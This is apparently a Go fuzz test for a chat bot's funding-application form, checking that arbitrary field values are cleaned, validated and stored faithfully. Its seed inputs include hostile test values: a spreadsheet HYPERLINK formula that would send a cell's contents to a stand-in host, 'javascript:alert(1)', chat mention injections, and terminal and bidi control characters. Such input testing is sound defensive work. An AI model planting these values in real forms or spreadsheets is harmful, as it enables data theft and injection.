package call_test

import (
	"bytes"
	"context"
	"fmt"
	"log/slog"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"unicode/utf8"

	"github.com/kipina/kipina/bot"
	"github.com/kipina/kipina/bot/call"
	"github.com/kipina/kipina/bot/chat"
	"github.com/kipina/kipina/bot/round"
	"github.com/kipina/kipina/configs"
	"github.com/kipina/kipina/storage"
)

// lockedBuffer is a log sink safe for concurrent writes.
type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) take() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	s := l.b.String()
	l.b.Reset()
	return s
}

// applicationFields are the form's field ids in the order of the fuzz
// target's arguments; long marks the multi-line ones.
var applicationFields = []struct {
	id   string
	long bool
	max  int
}{
	{"company", false, call.MaxCompany}, {"business_id", false, call.MaxBusinessID}, {"contact_name", false, call.MaxContact},
	{"email", false, call.MaxEmail}, {"website", false, call.MaxURL}, {"target", false, chat.MaxShortLen},
	{"summary", true, call.MaxSummary}, {"maturity", false, chat.MaxShortLen}, {"references", true, call.MaxReferences},
	{"pilot", true, call.MaxPilot}, {"deck", false, call.MaxURL}, {"lang", false, chat.MaxShortLen},
	{"secrets", false, chat.MaxShortLen}, {"consent", false, chat.MaxShortLen},
}

var appID = regexp.MustCompile(`\bH\d{4,}\b`)

// FuzzApplication drives the whole application form, as a platform would
// deliver it, through bot.Handle: cleaning, validation, the per-person and
// business-ID rules and storage in a real bbolt file. Whatever the values,
// the answer is either field errors (each on a field of the form, in the
// person's language from the catalogue: no missing message is logged) or
// a stored application whose fields read back from the store exactly as
// cleaned (chat.Clean, trimmed; the business ID canonical), each within
// its limit and clean again; never an internal error.
//
//	go test ./bot/call -run '^$' -fuzz FuzzApplication -fuzztime 5m
func FuzzApplication(f *testing.F) {
	valid := []string{"Katuvalo Oy", "1572860-0", "Anna Virtanen", "anna@katuvalo.fi", "https://katuvalo.fi", "health",
		"Sensors on street lights.", "idea", "Tampere 2025", "A pilot in Hervanta.", "https://example.fi/deck.pdf", "fi", "yes", "yes"}
	f.Add(valid[0], valid[1], valid[2], valid[3], valid[4], valid[5], valid[6], valid[7], valid[8], valid[9], valid[10], valid[11], valid[12], valid[13])
	f.Add("\u200b Åbo\u00ad Bryggeri Ab \x1b[31m", "FI01120389", " Bo ", "bo@åbo.fi", "", "unsure", "Line\r\nline\ttab\x00", "market", "", "", "", "sv", "no", "yes")
	f.Add("=HYPERLINK(\"http://x.example/?d=\"&B2,\"Open\")", "1572860-0", "@channel", "x@y.fi", "javascript:alert(1)", "sensors",
		"<@U123> [link](https://x.example) ![i](https://x.example/i.png)", "prototype", "", "", "", "en", "maybe", "yes")
	f.Add(strings.Repeat("ä", call.MaxCompany+1), "1234567-1", "\xff\xfe", "a@b", "https://"+strings.Repeat("x", call.MaxURL), "health",
		strings.Repeat("x ", call.MaxSummary), "idea", "", "", "", "fi", "yes", "no")
	f.Add(" \u202e\u2063 ", "  ", "\t", "", "", "", "", "", "", "", "", "", "", "")

	dir := f.TempDir()
	db, err := storage.Open(filepath.Join(dir, "k.db"))
	if err != nil {
		f.Fatal(err)
	}
	f.Cleanup(func() {
		if err := db.Check(); err != nil {
			f.Errorf("store consistency: %v", err)
		}
		if err := db.Close(); err != nil {
			f.Error(err)
		}
	})
	logs := &lockedBuffer{}
	b, err := bot.New(bot.Options{Config: configs.Default(), DB: db, DataDir: dir,
		Log: slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelWarn}))}, call.Module{})
	if err != nil {
		f.Fatal(err)
	}
	// call open previews; the button posts it and opens the call.
	if r := b.Handle(context.Background(), &chat.Action{Origin: origin("nina"), ActionID: "call-post:kipina-2017"}); r.Reply == nil {
		f.Fatal("call open failed")
	}
	var n atomic.Int64

	f.Fuzz(func(t *testing.T, company, bid, contact, email, website, target, summary, maturity, references, pilot, deck, lang, secrets, consent string) {
		in := []string{company, bid, contact, email, website, target, summary, maturity, references, pilot, deck, lang, secrets, consent}
		values := map[string]string{}
		for i, fd := range applicationFields {
			values[fd.id] = in[i]
		}
		user := fmt.Sprintf("f%d", n.Add(1)) // a new person each time: the per-person limits are tested elsewhere
		sub := &chat.FormSubmit{Origin: origin(user), FormID: "apply:kipina-2017", State: "kipina-2017", Values: values}
		r := b.Handle(context.Background(), sub)
		if l := logs.take(); l != "" {
			t.Fatalf("logged:\n%s", l)
		}

		if len(r.Errors) > 0 && slices.Equal(in, valid) {
			t.Fatalf("the valid application was refused: %v", r.Errors) // the target must not pass vacuously
		}
		if len(r.Errors) > 0 {
			for id, msg := range r.Errors {
				if !knownField(id) || strings.TrimSpace(msg) == "" || strings.Contains(msg, "{{") {
					t.Errorf("field error %q: %q", id, msg)
				}
			}
			return
		}
		if r.Reply == nil {
			t.Fatalf("neither errors nor a reply: %+v", r)
		}
		id := appID.FindString(r.Reply.Text)
		if id == "" || !strings.Contains(r.Reply.Text, "Kipinä 2017") {
			t.Fatalf("reply %q is not a receipt", r.Reply.Text)
		}
		var a round.Application
		if err := db.View(func(tx *storage.Tx) (err error) { a, err = round.Apps.Get(tx, "demo", id); return }); err != nil {
			t.Fatal(err)
		}
		if a.Owner.User != user {
			t.Fatalf("%s belongs to %s, not %s", id, a.Owner.User, user)
		}
		want := map[string]string{}
		for i, fd := range applicationFields {
			c, err := chat.Clean(strings.TrimSpace(in[i]), fd.long)
			if err != nil {
				t.Fatalf("%s: invalid UTF-8 %q stored without a field error", fd.id, in[i])
			}
			want[fd.id] = strings.TrimSpace(c)
		}
		if want["business_id"], err = call.ParseBusinessID(want["business_id"]); err != nil {
			t.Fatalf("business ID %q stored: %v", in[1], err)
		}
		if want["target"] == call.TargetUnsure {
			want["target"] = ""
		}
		got := map[string]string{"company": a.Company, "business_id": a.BusinessID, "contact_name": a.Contact, "email": a.Email,
			"website": a.Website, "target": a.Target, "summary": a.Summary, "maturity": a.Maturity, "references": a.References,
			"pilot": a.Pilot, "deck": a.Deck, "lang": a.Lang, "secrets": map[bool]string{true: "yes", false: "no"}[a.Secrets],
			"consent": map[bool]string{true: "yes", false: "no"}[a.Consent]}
		if want["secrets"] == "" {
			want["secrets"] = "no" // a yes/no left empty is no
		}
		for _, fd := range applicationFields {
			g := got[fd.id]
			if g != want[fd.id] {
				t.Errorf("%s read back %q, want %q (typed %q)", fd.id, g, want[fd.id], values[fd.id])
			}
			if n := utf8.RuneCountInString(g); n > fd.max {
				t.Errorf("%s stored %d characters, limit %d", fd.id, n, fd.max)
			}
			if c, err := chat.Clean(g, fd.long); err != nil || c != g {
				t.Errorf("%s stored %q, which cleans to %q", fd.id, g, c)
			}
		}
		if !a.Consent {
			t.Error("stored without consent")
		}
	})
}

func knownField(id string) bool {
	for _, fd := range applicationFields {
		if fd.id == id {
			return true
		}
	}
	return false
}
